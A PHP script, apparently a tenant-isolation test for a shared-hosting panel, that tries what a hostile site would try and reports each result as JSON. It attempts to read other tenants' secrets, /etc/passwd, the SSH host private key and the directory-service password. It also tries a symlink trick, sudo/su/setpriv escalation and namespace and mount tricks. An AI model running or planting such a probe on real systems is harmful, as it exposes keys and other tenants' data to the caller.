<?php
// What a hostile site tries. Answers JSON: name of the attempt => what came of it (false or "" when it failed).
header('Content-Type: application/json');
$other = preg_replace('/\D/', '', $_GET['other'] ?? '0');
$uid = (int) ($_GET['uid'] ?? 0);
$path = "/srv/sites/$other";

function read(string $file) { return @file_get_contents($file); }

function run(string $command): string {  // programs know nothing of open_basedir
    $out = [];
    @exec("$command 2>/dev/null", $out);
    return trim(implode("\n", $out));
}

$link = __DIR__ . '/stolen.txt';
@unlink($link);
run("ln -s $path/web/secret.txt $link");
$status = read('/proc/self/status') ?: run('cat /proc/self/status');
preg_match('/^Groups:[ \t]*(.*)$/m', $status, $groups);
preg_match('/^CapEff:\s*(\w+)$/m', $status, $capabilities);
preg_match('/^CapBnd:\s*(\w+)$/m', $status, $bounding);
preg_match('/^NoNewPrivs:\s*(\d)$/m', $status, $nnp);

$sockets = [];
foreach (["/run/sites/$other.sock", '/run/dbus/system_bus_socket', '/run/systemd/private', '/run/nslcd/socket'] as $socket) {
    $sockets[$socket] = (bool) @stream_socket_client("unix://$socket", $code, $text, 1);
}
echo json_encode([
    'uid' => posix_geteuid(),
    'gid' => posix_getegid(),
    'groups' => trim($groups[1] ?? ''),
    'capabilities' => $capabilities[1] ?? '',
    'bounding' => $bounding[1] ?? '',
    'no_new_privileges' => $nnp[1] ?? '',
    'own_file' => read(__DIR__ . '/secret.txt'),
    'other_file' => read("$path/web/secret.txt"),
    'other_file_by_program' => run("cat $path/web/secret.txt"),
    'other_include_by_program' => run("cat $path/include/secret.txt"),
    'other_list' => run("ls -A $path"),
    'sites_list' => run('ls -A /srv/sites'),
    'link_made' => is_link($link),
    'passwd_by_php' => read('/etc/passwd'),
    'panel_settings' => run('cat /etc/controlpanel/agent.json'),
    'panel_state' => run('cat /var/lib/controlpanel/state.db'),
    'panel_list' => run('ls -AI ca.pem /etc/controlpanel; ls -A /var/lib/controlpanel'),
    'other_php_conf' => run("cat /etc/php/sites/$other.conf"),
    'nginx_conf' => run("cat /etc/nginx/controlpanel/sites/$other.conf"),
    'other_log' => run("cat /var/log/sites/$other/access.log"),
    'directory_password' => run('cat /etc/nslcd.conf'),
    'ssh_keys' => run('cat /etc/ssh/ssh_host_ed25519_key'),
    'run_list' => run('ls -A /run/sites /run/controlpanel /run/nslcd'),
    'sockets' => array_filter($sockets),
    'processes' => run("cat /proc/[0-9]*/status | grep '^Uid:' | awk '{print \$2}' | sort -u | tr '\\n' ' '"),
    'signal_other' => run("for p in \$(seq 1 40000); do kill -0 \$p && grep -l . /proc/\$p/comm; done | wc -l"),
    'signal_master_of_other' => isset($_GET['pid']) ? run('kill -0 ' . (int) $_GET['pid'] . ' && echo yes') : '',
    'become_other' => run("setpriv --reuid=$uid --clear-groups id -u"),
    'become_root' => run('sudo -n id -u; su -c id'),
    'write_system' => run('touch /usr/x && echo yes; touch /etc/x && echo yes; touch /var/x && echo yes'),
    'shared_memory' => run('ls -A /dev/shm /tmp /var/tmp'),
    'mount' => run('mount -t tmpfs tmpfs /mnt && echo yes; unshare -r id -u'),
    'devices' => run('ls /dev/fuse /dev/sda /dev/mem'),
    'cgroups' => run('ls -A /sys/fs/cgroup'),
    'journal' => run('journalctl -n 1'),
    'systemctl' => run('systemctl list-units'),
]);
